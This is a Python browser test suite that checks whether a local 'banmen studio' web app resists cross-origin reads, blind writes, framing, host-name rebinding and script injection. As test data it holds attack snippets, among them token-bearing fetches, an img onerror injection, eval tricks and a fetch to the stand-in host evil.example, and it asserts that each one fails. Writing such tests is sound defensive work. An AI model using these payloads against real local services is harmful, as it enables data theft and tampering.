"""What others can do to the studio through the browser that shows it: nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.apps.browser import Browser
from tests.apps.studio_page import FULL, NEEDS, opened
from tests.calibration.studio_server import Running

pytestmark = NEEDS


def test_the_token_leaves_the_address_and_a_page_without_it_is_told_so(browser: Browser, studio: Running) -> None:
    opened(browser, studio)
    assert studio.token not in browser.driver.current_url
    assert browser.js("return document.cookie") == ""
    browser.driver.refresh()
    browser.until("return document.querySelectorAll('#reading [role=row]').length", what="the reading after a reload")
    browser.open("about:blank")
    browser.js("return 1")
    stranger = studio.address.split("#")[0]
    browser.driver.switch_to.new_window("tab")
    browser.driver.get(stranger)
    browser.until(
        "return document.querySelector('.toast.bad')?.textContent.includes('banmen studio')", what="the sentence"
    )
    browser.driver.get_log("browser")
    browser.driver.close()
    browser.driver.switch_to.window(browser.driver.window_handles[0])


class Stranger(BaseHTTPRequestHandler):
    """A page of somebody else, on a port of its own."""

    def do_GET(self) -> None:
        """An empty page."""
        body = b"<!doctype html><title>stranger</title><body></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture
def stranger() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


ATTACKS = {
    "reads with the token": """return await fetch(args[0] + '/api/state', {headers: {'X-Banmen-Token': args[1]}})
        .then(answer => answer.text())""",
    "reads the page": "return await fetch(args[0] + '/').then(answer => answer.text())",
    "writes blindly": """return (await fetch(args[0] + '/api/undo', {method: 'POST', mode: 'no-cors', body: '{}'}))
        .type""",
    "runs its script": "return await import(args[0] + '/geometry.js').then(m => Object.keys(m).join())",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_another_page_of_the_same_browser_gets_nothing(
    tab: Browser, studio: Running, stranger: str, attack: str
) -> None:
    studio.change("/api/pictures", FULL.read_bytes())
    tab.open(stranger)
    try:
        answer = tab.js(attack, studio.address.split("/#")[0], studio.token)
    except AssertionError as refused:
        answer = str(refused)
    assert answer == "opaque" or "Failed to fetch" in answer, answer
    assert studio.get("/api/state")["undo"] == "opening a picture"


def test_another_page_cannot_put_it_in_a_frame(tab: Browser, studio: Running, stranger: str) -> None:
    tab.open(stranger)
    tab.js(
        """const f = document.createElement('iframe'); f.src = args[0];
        await new Promise(done => { f.onload = done; document.body.append(f); })""",
        studio.address,
    )
    tab.driver.switch_to.frame(0)
    assert tab.all("#stage") == []
    tab.driver.switch_to.default_content()


def test_a_name_that_somebody_gave_to_this_address_shows_nothing(tab: Browser, studio: Running) -> None:
    tab.open(f"http://evil.example:{studio.port}/#{studio.token}")
    assert "answers only to the address" in str(tab.js("return document.body.textContent"))


def test_what_gets_into_the_page_can_neither_run_nor_send(tab: Browser, studio: Running) -> None:
    tab.screen()
    opened(tab, studio)
    ran = tab.js(
        """window.ran = [];
        await new Promise(r => setTimeout(r, 1));
        const s = document.createElement('script');
        try { s.textContent = 'window.ran.push("inline")'; document.body.append(s); } catch {}
        try { setTimeout('window.ran.push("timer")', 0); } catch {}
        try { (0, eval)('window.ran.push("eval")'); } catch {}
        try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran.push(1)">'); } catch {}
        try { await fetch('http://evil.example:9/'); window.ran.push('sent'); } catch {}
        await new Promise(r => setTimeout(r, 50));
        return window.ran"""
    )
    assert ran == []
    assert any("Content Security Policy" in complaint or "TrustedHTML" in complaint for complaint in tab.complaints())
